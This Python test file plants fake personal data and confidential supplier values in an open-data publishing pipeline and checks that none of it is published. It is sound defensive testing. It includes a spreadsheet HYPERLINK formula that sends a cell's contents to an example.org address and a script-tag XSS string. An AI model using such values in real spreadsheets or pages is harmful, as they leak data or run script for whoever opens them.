"""Canaries: personal data planted in every text of every office dataset is found nowhere in what is published."""

from __future__ import annotations

import csv
import gzip
import json
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import duckdb
import pytest
import yaml

from assets import datasets
from pipelines import steps
from pipelines.dataset import Dataset
from pipelines.releases import State, approve
from pipelines.releases.layout import open_published
from pipelines.sandbox.page import Setting
from pipelines.sandbox.records import write_records
from pipelines.screening.kinds import Kind, kinds_in
from pipelines.screening.screen import screened
from pipelines.settings import ROOT, Settings
from pipelines.sources.records import RecordsSource
from pipelines.sources.spend import SPEND
from pipelines.upstream import Request, World

CANARIES = {
    Kind.NATIONAL_INSURANCE: "AB131797C",
    Kind.PHONE: "07700 900317",
    Kind.EMAIL: "zq.canary@example.org",
    Kind.POSTCODE: "CT19 7QX",
    Kind.VEHICLE: "YJ66 ZWX",
    Kind.BIRTH: "DOB 17/03/1971",
    Kind.CRIME: "46/131797/25",
}
PLANTED = ", ".join(CANARIES.values())
SECRETS = ("V-7731971", "1 Canary Cottage")
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"open")'
MARKUP = "<script>alert(1)</script> & ]]> \u202e"
OFFICE = [dataset for dataset in datasets() if dataset.source.office]

PAYMENTS = {
    "transaction_id": "Transaction Number",
    "body_name": "Body Name",
    "payment_date": "Payment Date",
    "supplier_name": "Supplier Name",
    "amount_gbp": "Net Amount",
    "category": "Expenditure Category",
    "department": "Department",
    "purpose": "Purpose",
    "value_for_money_reason": "Value for Money Reason",
    "contract_id": "Contract Reference",
    "decision_id": "Decision Reference",
    "supplier_reference": "Supplier Number",
    "supplier_address": "Supplier Address",
}
PAYMENT = {"payment_date": "14/09/2026", "supplier_name": "Wealden Fleet Ltd", "amount_gbp": "750.00"}


@dataclass
class Desk:
    """An office whose records are canaries beside one good record of each kind."""

    folder: Path
    good: dict[str, tuple[Path, dict[str, Any]]] = field(default_factory=dict)

    @property
    def settings(self) -> Settings:
        (self.folder / "files").mkdir(parents=True, exist_ok=True)
        return Settings(
            world=f"folder:{self.folder / 'files'}",
            home=self.folder / "home",
            published=self.folder / "published",
            records=self.folder / "records",
        )

    def night(self) -> dict[str, State]:
        """Land, store, release and publish what the office has written; whoever is held is approved."""
        for dataset in OFFICE:
            steps.land(self.settings, dataset)
            steps.store(self.settings, dataset)
        states = {dataset.name: steps.release(self.settings, dataset)[0].state for dataset in OFFICE}
        for name in (name for name, state in states.items() if state is State.HELD):
            approve(self.settings.candidates, name, "Seen", "operator", published=self.settings.published)
        steps.publish_edition(self.settings, OFFICE)
        return states

    def write(self, dataset: Dataset, name: str, record: dict[str, Any]) -> Path:
        """Put a record into its folder."""
        assert isinstance(dataset.source, RecordsSource)
        path = self.settings.records / dataset.source.folder / f"{name}.yaml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(yaml.safe_dump(record, sort_keys=False, allow_unicode=True), encoding="utf-8")
        return path

    def pay(self, name: str, *rows: dict[str, str]) -> None:
        """Drop a spreadsheet of payments."""
        path = self.settings.records / "inbox" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, [*PAYMENTS], restval="")
            writer.writerow(PAYMENTS)
            writer.writerows(rows)


def records_of(dataset: Dataset, folders: Sequence[Path]) -> list[dict[str, Any]]:
    """Up to two records of this kind that are good, with one row each; the sandbox's where reality has none."""
    source = dataset.source
    assert isinstance(source, RecordsSource)
    world = World("folder", False, folders[0], (), date.max, more_records=tuple(folders[1:]))
    found: list[dict[str, Any]] = []
    for resource in source.listing(world, Request("kent")).resources[:2]:
        path = next(p for f in folders if (p := f / source.folder / Path(resource.url).name).is_file())
        record = yaml.load(path.read_text(encoding="utf-8"), yaml.BaseLoader)  # noqa: S506 - texts alone
        found.append(record | {source.items: record[source.items][:1]} if source.items else record)
    return found


def planted(dataset: Dataset, record: dict[str, Any], columns: Sequence[str], text: str) -> dict[str, Any]:
    """The record with a text in some columns."""
    items, told = getattr(dataset.source, "items", ""), dict.fromkeys(columns, text)
    return record | {items: [record[items][0] | told]} if items else record | told


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    """After its first night."""
    made = Desk(tmp_path_factory.mktemp("desk"))
    made.settings.records.mkdir()
    (made.settings.records / "body.yaml").write_bytes((ROOT / "records/body.yaml").read_bytes())
    cache = tmp_path_factory.mktemp("cache")
    sandbox = write_records(Setting(1, date(2026, 11, 1), "kent", cache))
    for dataset in OFFICE:
        records = records_of(dataset, (ROOT / "records", sandbox)) if isinstance(dataset.source, RecordsSource) else []
        for record in records[1:]:
            made.write(dataset, "other", record)
        for record in records[:1]:
            made.good[dataset.name] = (made.write(dataset, "good", record), record)
            texts = [column for column in dataset.columns if screened(column)]
            for name, columns in (
                ("bad-words", [column.name for column in texts if not column.pattern]),
                ("bad-forms", [column.name for column in texts if column.pattern]),
            ):
                if columns:
                    made.write(dataset, name, planted(dataset, record, columns, PLANTED))
    bad = [PAYMENT | {name: PLANTED} for name in PAYMENTS if name not in {"supplier_reference", "supplier_address"}]
    secret = {"supplier_reference": SECRETS[0], "supplier_address": SECRETS[1]}
    made.pay("spend-2026-09.csv", PAYMENT | secret, *bad, PAYMENT | secret | {"purpose": f"see {SECRETS[0]}"})
    made.pay(f"spend {CANARIES[Kind.PHONE]}.csv", PAYMENT)
    made.night()
    return made


def texts_below(folder: Path) -> Iterator[tuple[str, str]]:
    """Every file as text: Parquet as its rows, compressed files as what they hold, older editions too."""
    for path in sorted(path for path in folder.rglob("*") if path.is_file() and not path.is_symlink()):
        content = path.read_bytes()
        if path.suffix == ".parquet":
            rows = duckdb.connect().execute("SELECT * FROM read_parquet(?)", [str(path)]).fetchall()
            content += repr(rows).encode()
        if content[:2] == b"\x1f\x8b":
            content = gzip.decompress(content)
        yield path.relative_to(folder).as_posix(), content.decode("utf-8", "replace")


def told(folder: Path) -> list[tuple[str, str]]:
    """Every canary below a folder, and the file it stands in."""
    searched = (*CANARIES.values(), "17/03/1971", "900317", *SECRETS)
    return [(name, canary) for name, text in texts_below(folder) for canary in searched if canary in text]


def test_the_canaries_are_alive() -> None:
    assert set(kinds_in(PLANTED)) == set(CANARIES)
    assert len(OFFICE) > 4


def test_no_canary_is_published(desk: Desk) -> None:
    assert told(desk.settings.published) == []
    assert len(list(texts_below(desk.settings.published))) > 60


def test_the_read_copy_has_neither_canaries_nor_confidential_columns(desk: Desk) -> None:
    with duckdb.connect(str(desk.settings.read_copy), read_only=True) as copy:
        tables = [name for (name,) in copy.execute("SELECT table_name FROM duckdb_tables()").fetchall()]
        said = "".join(repr(copy.execute(f'FROM "{name}"').fetchall()) for name in tables)
        columns = {name for (name,) in copy.execute("SELECT column_name FROM duckdb_columns()").fetchall()}
    assert [canary for canary in (*CANARIES.values(), *SECRETS) if canary in said] == []
    assert not columns & {column.name for d in OFFICE for column in d.stored_columns if not column.public}
    assert SECRETS[0].encode() not in desk.settings.read_copy.read_bytes()
    with duckdb.connect(str(desk.settings.store), read_only=True) as store:
        kept = store.execute("SELECT supplier_reference, supplier_address FROM expenditure").fetchall()
    assert kept == [SECRETS]


@pytest.mark.parametrize("dataset", [d for d in OFFICE if isinstance(d.source, RecordsSource)], ids=lambda d: d.name)
def test_each_planted_row_is_held_out_with_its_address(desk: Desk, dataset: Dataset) -> None:
    if dataset.name not in desk.good:
        pytest.skip("no record of this kind is written yet")
    with duckdb.connect(str(desk.settings.store), read_only=True) as store:
        issues = store.execute(
            "SELECT field, row, text FROM _issues WHERE dataset = ? AND starts_with(\"check\", 'holds-') "
            "AND ends_with(resource, '/bad-words')",
            [dataset.name],
        ).fetchall()
        rows = store.execute(f'SELECT DISTINCT _resource FROM "{dataset.table}"').fetchall()
    assert {resource.rpartition("/")[2] for (resource,) in rows} | {"other"} == {"good", "other"}
    for column in dataset.columns:
        if screened(column) and not column.pattern:
            found = [issue for issue in issues if issue[0] == column.name]
            assert len(found) == len(CANARIES) - len(column.may_hold), column.name
            assert all(row and f"row {row}: {column.name} holds" in text for _, row, text in found)


def test_payments_are_accounted_for(desk: Desk) -> None:
    report = json.loads((open_published(desk.settings.published).newest["expenditure"] / "quality.json").read_bytes())
    assert report["rows"] | {} == report["rows"]
    failed = {check["name"]: check["failed"] for check in report["checks"] if check["name"].startswith("holds-")}
    assert set(failed) == {f"holds-{kind}" for kind in Kind}
    assert failed["holds-confidential-value"] == 1
    assert failed["holds-phone-number"] >= 9


def test_a_record_that_turns_bad_leaves_no_trace(desk: Desk) -> None:
    """Diffs, older versions, feeds: the next edition says that a row went, and not what it would have said."""
    for dataset in OFFICE:
        free = [c.name for c in dataset.columns if c.free_text and not c.pattern]
        if dataset.name in desk.good and free:
            path, record = desk.good[dataset.name]
            desk.write(dataset, path.stem, planted(dataset, record, free[-1:], PLANTED))
    desk.pay("spend-2026-09.csv", PAYMENT | {"purpose": PLANTED}, PAYMENT | {"purpose": FORMULA, "category": MARKUP})
    states = desk.night()
    assert State.HELD in states.values()
    assert told(desk.settings.published) == []
    shown = open_published(desk.settings.published)
    assert shown.number == 2
    table = next(shown.newest["expenditure"].glob("*.csv"))
    with table.open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["purpose"] == f"'{FORMULA}"
    assert MARKUP.removesuffix(" \u202e") in row["category"]
    assert ElementTree.fromstring((desk.settings.published / "feed.atom").read_bytes()).tag.endswith("feed")  # noqa: S314


def test_every_source_of_the_office_is_planted(desk: Desk) -> None:
    kinds = {type(dataset.source) for dataset in OFFICE}
    assert RecordsSource in kinds
    assert type(SPEND) in kinds
    assert len(desk.good) >= 4
